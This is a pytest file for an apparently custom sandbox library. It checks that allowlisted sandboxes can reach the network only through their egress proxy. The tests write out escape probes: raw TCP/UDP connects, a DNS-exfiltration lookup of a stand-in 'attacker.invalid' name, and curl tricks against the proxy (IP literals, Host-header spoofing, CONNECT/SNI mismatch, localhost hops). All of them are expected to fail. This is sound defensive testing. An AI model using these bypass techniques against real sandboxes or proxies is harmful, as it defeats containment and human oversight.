"""Attacks on network="allow:<rules>": every way out but the proxy, and every trick on the proxy.

A sandbox with an allowlist has only ``lo``; the host's egress proxy listens on its 127.0.0.1:3128
(a socket its init made and handed to the host) and is its only way out.  Tried here: direct
connects to the host's loopback and to any address (TCP, UDP ``connect()``, which sends nothing,
IPv6), name lookups (no resolver: DNS exfiltration has no route), IP literals and Host-header
tricks through the proxy, a tunnel to an allowed name carrying another name inside (SNI /
CONNECT mismatch), a proxy hop through loopback names, another sandbox's proxy, and the default
staying ``none``.  Traffic goes only to servers on the host's loopback, under reserved names.
"""

import dataclasses

import pytest

from sandboxlite import Sandbox, SandboxConfig
from sandboxlite.config import PROXY_URL
from sandboxlite.errors import ConfigError
from sandboxlite.jail.host import default_host
from sandboxlite.network.egress import EgressProxy

from ..egress_fixtures import curl, host, origins  # noqa: F401  (fixtures)


def test_no_route_leaves_the_sandbox_but_the_proxy(host, origins, record):
    a, _ = origins
    probe = (
        "import socket, errno\n"
        "def tcp(fam, addr):\n"
        "    s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(3)\n"
        "    try: s.connect(addr); return 'connected'\n"
        "    except OSError as e: return errno.errorcode.get(e.errno, str(e))\n"
        "def udp(fam, addr):\n"
        "    s = socket.socket(fam, socket.SOCK_DGRAM)\n"
        "    try: s.connect(addr); return 'connected'\n"  # sends nothing: only asks for a route
        "    except OSError as e: return errno.errorcode.get(e.errno, str(e))\n"
        "def name(n):\n"
        "    try: return socket.getaddrinfo(n, 443)\n"
        "    except OSError as e: return 'unresolved'\n"
        f"print(tcp(socket.AF_INET, ('127.0.0.1', {a})))\n"  # the host's origin: not on this loopback
        "print(udp(socket.AF_INET, ('192.0.2.1', 53)))\n"
        "print(udp(socket.AF_INET6, ('2001:db8::1', 53)))\n"
        "print(tcp(socket.AF_INET, ('192.0.2.1', 443)))\n"
        "print(name('pypi.org'))\n"
        "print(name('exfiltrated-secret.attacker.invalid'))\n"
    )
    with Sandbox(network="allow:pypi", host=host) as sb:
        r = sb.exec(["python3", "-c", probe], timeout=30)
        lines = r.stdout.decode().split()
        names = ["TCP to the host's loopback server", "UDP connect 192.0.2.1:53", "UDP connect [2001:db8::1]:53",
                 "TCP 192.0.2.1:443", "resolve pypi.org", "DNS exfiltration (resolve *.attacker.invalid)"]
        want = ["ECONNREFUSED", "ENETUNREACH", "ENETUNREACH", "ENETUNREACH", "unresolved", "unresolved"]
        for attack, expected, seen in zip(names, want, lines + [""] * 6):
            record(f"allow:pypi: {attack}", expected, seen)
        assert lines == ["ECONNREFUSED", "ENETUNREACH", "ENETUNREACH", "ENETUNREACH", "unresolved", "unresolved"], r
        assert sb.network_log() == []  # none of that went through the proxy either


def test_bypass_attempts_through_the_proxy_fail(host, origins, record):
    a, b = origins
    with Sandbox(network=f"allow:pkg.test:{a}", host=host) as sb:
        for attack, args, want in (
            ("IP literal through the proxy", (f"http://127.0.0.1:{a}/", "--noproxy", ""), "403"),
            ("Host header of a denied name on an allowed URL", (f"http://pkg.test:{a}/", "-H", f"Host: other.test:{b}"),
             "400"),
            ("proxy hop through localhost", (f"http://localhost:{a}/", "--noproxy", ""), "403"),
            ("CONNECT to a denied name", (f"https://other.test:{b}/",), "000"),
        ):  # fmt: skip
            record(f"allow:pkg.test: {attack}", want, curl(sb, *args)[1].rsplit("\n", 1)[-1])
        # an IP literal, even of an address an allowed name resolves to
        code, out, _ = curl(sb, f"http://127.0.0.1:{a}/")  # NO_PROXY has it: direct, and refused at once
        assert code == 7 and out.endswith("000")
        code, out, _ = curl(sb, f"http://127.0.0.1:{a}/", "--noproxy", "")  # through the proxy
        assert out.endswith("403") and "IP address" in sb.network_log()[-1].why
        # Host-header trick on plain HTTP: an allowed URL, another Host
        code, out, _ = curl(sb, f"http://pkg.test:{a}/", "-H", f"Host: other.test:{b}")
        assert out.endswith("400")
        # CONNECT to an allowed name, then another name inside the tunnel (as an SNI would be): the
        # bytes go to the allowed name's server, not to the one named inside
        code, out, _ = curl(sb, f"http://other.test:{b}/inner", "-p", "-x", PROXY_URL,
                             "--connect-to", f"other.test:{b}:pkg.test:{a}")  # fmt: skip
        assert out.startswith("origin-A /inner"), out
        assert sb.network_log()[-1].host == "pkg.test"
        # a proxy-to-proxy hop: the proxy itself, or a name for loopback
        code, out, _ = curl(sb, f"http://localhost:{a}/", "--noproxy", "")
        assert out.endswith("403")


def test_a_real_proxy_never_reaches_a_host_loopback_service(origins):
    a, _ = origins
    h = dataclasses.replace(default_host())
    proxy = EgressProxy(resolver=lambda name, port: ["127.0.0.1"])  # a name that resolves to loopback
    h.set_egress_proxy(proxy)
    try:
        with Sandbox(network=f"allow:pkg.test:{a}", host=h) as sb:
            code, out, _ = curl(sb, f"http://pkg.test:{a}/")
            assert out.endswith("502") and "not public" in out
            (entry,) = sb.network_log()
            assert not entry.allowed and "127.0.0.1" in entry.why
    finally:
        proxy.close()


def test_each_sandbox_has_its_own_proxy_identity_and_policy(host, origins):
    a, b = origins
    with Sandbox(network=f"allow:pkg.test:{a}", host=host) as sa, Sandbox(network=f"allow:other.test:{b}", host=host) as sb, \
            Sandbox(host=host) as plain:  # fmt: skip
        assert curl(sa, f"http://pkg.test:{a}/")[1].endswith("200")
        assert curl(sb, f"http://pkg.test:{a}/")[1].endswith("403")  # a's rule is not b's
        assert curl(sb, f"http://other.test:{b}/")[1].endswith("200")
        # a sandbox without an allowlist has no proxy: its 127.0.0.1:3128 is its own, and closed
        code, _, err = curl(plain, f"http://pkg.test:{a}/", "-x", PROXY_URL)
        assert code == 7 and "127.0.0.1" in err
        assert "HTTP_PROXY" not in plain.exec("env").stdout.decode()
        assert [e.allowed for e in sa.network_log()] == [True]
        assert [e.allowed for e in sb.network_log()] == [False, True]
        assert plain.network_log() == []


def test_allow_is_never_chosen_silently_and_refused_where_it_cannot_hold():
    assert SandboxConfig().network == "none" and SandboxConfig().policy is None
    with pytest.raises(ConfigError, match="unknown preset 'pypy'"):
        SandboxConfig(network="allow:pypy")
    with pytest.raises(ConfigError, match="no network namespace of its own"):
        Sandbox(network="allow:pypi", isolation="landlock", rootfs="host")
    with pytest.raises(ConfigError, match="must be none, host or allow"):
        SandboxConfig(network="allow")


def test_an_exposed_server_is_reached_from_the_host_only(record):
    """expose=[PORT]: the server stays on its own sandbox's loopback.  Another sandbox, even one
    exposing the same port, and the commands of its own sandbox hold no way to the host side
    (the connections are made by the init and handed to the host; the unix sockets are in a 0700
    directory of the host user)."""
    import stat

    port = 8766
    server = ("import socket; s = socket.socket(); s.bind(('127.0.0.1', %d)); s.listen(4); "
              "open('/tmp/ready', 'w').close(); c, _ = s.accept(); c.sendall(b'secret'); c.close()") % port
    probe = ("import socket, errno\ns = socket.socket(); s.settimeout(3)\n"
             "try: s.connect(('127.0.0.1', %d)); print('connected')\n"
             "except OSError as e: print(errno.errorcode.get(e.errno, str(e)))\n") % port
    with Sandbox(expose=[port]) as a, Sandbox(expose=[port]) as b, Sandbox() as c:
        assert a.exec(["sh", "-c", "python3 -c \"$0\" & while [ ! -e /tmp/ready ]; do sleep 0.02; done", server]).exit_code == 0
        seen_b = b.exec(["python3", "-c", probe], timeout=30).stdout.decode().strip()
        seen_c = c.exec(["python3", "-c", probe], timeout=30).stdout.decode().strip()
        record("expose: another sandbox exposing the same port connects to it", "ECONNREFUSED", seen_b)
        record("expose: a sandbox without expose connects to it", "ECONNREFUSED", seen_c)
        assert seen_b == seen_c == "ECONNREFUSED"
        mode = stat.S_IMODE(__import__("os").stat(a.exposed[port].rsplit("/", 1)[0]).st_mode)
        record("expose: the host sockets' directory is private", "0o700", oct(mode))
        assert mode == 0o700
        fds = a.exec("ls -l /proc/1/fd 2>&1; ls /proc/self/fd").stdout.decode()
        record("expose: a command lists its init's descriptors (the connector)", "refused",
               "refused" if "ermission denied" in fds or "No such file" in fds else fds)
        assert "socket:" not in fds
        with a.connect(port) as conn:  # the host does reach it
            assert conn.recv(10) == b"secret"
